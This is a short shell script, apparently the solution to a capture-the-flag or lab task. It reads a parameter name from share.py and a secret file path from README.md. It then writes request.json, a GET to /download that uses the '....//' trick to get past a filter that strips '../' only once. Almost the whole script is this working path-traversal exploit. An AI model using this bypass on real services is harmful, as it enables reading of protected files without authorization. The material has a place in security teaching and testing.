# `....//` is `../` again once the one inside has been taken out.
set -eu
parameter=$(sed -n 's/^PARAMETER = "\(.*\)"/\1/p' share.py)
secret=$(grep -o '/srv/[^ `]*\.txt' README.md | cut -d/ -f4-)
printf '{"method": "GET", "path": "/download", "query": {"%s": "....//%s"}}\n' \
  "$parameter" "$secret" > request.json
echo 'the filter takes out ../ once'
